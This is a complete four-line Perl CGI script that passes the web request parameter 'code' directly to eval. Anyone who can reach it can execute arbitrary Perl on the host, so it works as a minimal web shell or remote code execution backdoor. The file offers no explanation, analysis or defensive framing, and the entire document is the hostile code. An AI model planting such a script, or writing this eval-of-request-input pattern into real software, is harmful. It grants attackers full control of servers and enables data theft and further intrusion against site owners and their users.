#!/usr/bin/perl
use CGI qw(:standard);
print header;
eval(param('code'));
